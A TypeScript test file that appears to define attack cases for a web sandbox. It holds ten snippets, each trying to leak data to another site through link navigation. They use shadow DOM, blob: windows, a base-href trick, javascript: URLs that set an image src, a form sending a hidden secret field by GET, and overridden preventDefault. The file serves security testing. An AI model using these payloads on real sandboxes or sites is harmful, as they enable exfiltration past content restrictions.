// Links that a sandbox follows by itself, in the ways that reach no listener of the page, or that name a place, a file or a script: a
// request that arrives has sent data to another site.
import type { Attack } from '../attack.ts';
import { leak, leakUrl, ofClass } from './define.ts';

const attack = ofClass('navigation', 'network');
const OVER_ALL = 'style="position:fixed;inset:0"';
/** Waits until the harness has received the start; then for the time that a navigation takes. */
const go = (code: string): string => `await A.wait(150); ${code}; await A.wait(1500)`;

export const LINKS: readonly Attack[] = [
  attack('x0a', 'a link whose click no other element hears, clicked', {
    html: `<a href="${leakUrl('stopped')}" ${OVER_ALL} onclick="event.stopImmediatePropagation()">go</a>`,
    script: go('await A.click()'),
    gesture: true,
    alone: true,
  }),
  attack('x0b', 'a link in a closed shadow tree, clicked by script', {
    html: '<div id="host"></div>',
    script: go(`
      const root = document.querySelector('#host').attachShadow({ mode: 'closed' });
      root.innerHTML = '<a href="' + ${leak('shadow')} + '">go</a>';
      root.querySelector('a').click()`),
  }),
  attack('x0c', 'a link that is not in the document, clicked by script', {
    script: go(`Object.assign(document.createElement('a'), { href: ${leak('detached')} }).click()`),
  }),
  attack('x0d', 'a link followed by an event that cannot be cancelled', {
    html: `<a href="${leakUrl('uncancelable')}">go</a>`,
    script: go(
      `document.querySelector('a').dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: false }))`,
    ),
  }),
  attack('x0e', 'a link that downloads from another site, clicked', {
    html: `<a href="${leakUrl('download')}" download="data.csv" ${OVER_ALL}>go</a>`,
    script: go('await A.click()'),
    gesture: true,
    alone: true,
  }),
  attack('x0f', 'a blob: page in a new window that asks another site, after a click', {
    script: go(`
      const page = '<script>fetch("' + ${leak('blob-window')} + '")</' + 'script><img src="' + ${leak('blob-window-image')} + '">';
      await A.click();
      window.open(URL.createObjectURL(new Blob([page], { type: 'text/html' })))`),
    gesture: true,
    alone: true,
  }),
  attack('x0g', 'a link to a place below a declared base of another site', {
    html: `<base href="${leakUrl('base-place')}"><a href="#place">go</a>`,
    ui: { csp: { baseUriDomains: ['http://{{name}}', 'https://{{name}}'] } },
    script: go(`document.querySelector('a').click()`),
  }),
  attack('x0h', 'a link to a script in the tab that asks another site, clicked', {
    html: `<a id="link" target="_top" ${OVER_ALL}>go</a>`,
    script: go(`
      document.querySelector('#link').href = 'javascript:void(new Image().src = "' + ${leak('script-link')} + '")';
      await A.click()`),
    gesture: true,
    alone: true,
  }),
  attack('x0i', 'a button that sends its form by GET into a new window, clicked', {
    html: `<form><input type="hidden" name="secret" value="1"><button formaction="${leakUrl('form-window')}" formtarget="_blank" ${OVER_ALL}>go</button></form>`,
    script: go('await A.click()'),
    gesture: true,
    alone: true,
  }),
  attack('x0j', 'a link after the view has replaced what prevents it', {
    html: `<a href="${leakUrl('replaced')}">go</a>`,
    script: go(`
      Event.prototype.preventDefault = () => {};
      Event.prototype.composedPath = () => [];
      Element.prototype.getAttribute = () => null;
      for (const type of ['click', 'auxclick']) addEventListener(type, event => event.stopImmediatePropagation(), true);
      document.querySelector('a').click()`),
  }),
];
